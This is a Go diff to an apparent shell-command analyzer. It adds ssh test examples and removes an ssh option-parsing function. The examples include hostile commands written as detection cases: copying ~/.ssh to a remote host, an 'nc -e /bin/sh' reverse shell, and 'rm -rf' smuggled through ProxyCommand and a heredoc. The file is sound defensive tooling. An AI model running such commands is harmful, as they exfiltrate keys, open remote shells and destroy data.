@@ -23,7 +23,10 @@ func netPrograms() []program {
 		{names: []string{"scp", "sftp", "rcp"}, model: (*call).scp,
 			examples: []example{ex("scp -r ~/.ssh h:/tmp", "read:r /home/u/.ssh", "tag network.upload", "net h")}},
 		{names: []string{"ssh", "mosh", "autossh", "rsh", "slogin"}, model: (*call).ssh,
-			examples: []example{ex("ssh -p 22 host 'rm -rf /x'", "net host", "attr remote-command=rm -rf /x")}},
+			examples: []example{ex("ssh -p 22 host 'rm -rf /x'", "net host", "attr remote-command=rm -rf /x", "delete:r /x", "tag remote.exec"),
+				ex("ssh -i k deploy@h uptime", "net deploy@h", "!tag remote.exec"), ex("ssh -L 8080:localhost:80 h", "tag network.tunnel"),
+				ex("ssh -o ProxyCommand='rm -rf /x' h", "delete:r /x"), ex("ssh h <<'E'\nrm -rf /x\nE", "delete:r /x", "tag remote.exec"),
+				ex("ssh h bash -s < deploy.sh", "tag remote.exec")}},
 		{names: []string{"nc", "ncat", "netcat", "telnet", "ftp", "tftp", "lftp"}, model: (*call).netcat,
 			examples: []example{ex("nc -e /bin/sh h 4444", "finding remote-exec", "net h")}},
 		{names: []string{"socat"}, model: (*call).socat,
@@ -320,37 +323,6 @@ func (k *call) scp() {
 		k.net(lit(remoteHost(dest.val)))
 	} else {
 		k.file(Write, dest, rec)
-	}
-}
-
-func (k *call) ssh() {
-	p := parseOpts(k.args, spec{arg: "BbcDEeFIiJLlmOoPpQRSWw", stop: true})
-	if id, ok := p.get("i"); ok {
-		k.attr("identity", id.text(k.c))
-	}
-	if e, ok := p.get("E"); ok {
-		k.file(Write, e, false)
-	}
-	if len(p.ops) == 0 {
-		return
-	}
-	host := p.ops[0]
-	if host.known {
-		h := host.val
-		if strings.HasPrefix(h, "ssh://") {
-			if u, err := url.Parse(h); err == nil {
-				h = u.Host
-			}
-		}
-		host = sub(host, h)
-	}
-	k.net(host)
-	if len(p.ops) > 1 {
-		rc := joinCode(p.ops[1:])
-		k.attr("remote-command", rc.val)
-		if !rc.known {
-			k.attr("remote-command", p.ops[1].text(k.c))
-		}
 	}
 }
 
